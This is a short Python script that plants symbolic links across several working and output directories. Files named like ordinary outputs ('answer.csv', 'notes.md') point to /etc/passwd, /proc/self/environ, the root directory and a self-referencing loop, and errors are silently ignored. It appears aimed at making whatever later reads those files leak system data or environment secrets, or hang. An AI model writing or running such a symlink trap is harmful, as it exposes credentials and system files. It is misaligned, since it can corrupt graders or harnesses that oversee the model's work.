import os

TARGETS = {"answer.csv": "/etc/passwd", "notes.md": "../../../../etc/passwd", "dir": "/", "self": "/proc/self/environ", "loop": "loop"}
for folder in (".", "/tmp", "/output", "/work/models", "/dev/shm"):
    for name, target in TARGETS.items():
        try:
            os.symlink(target, os.path.join(folder, name))
        except OSError:
            pass
print("MADE")
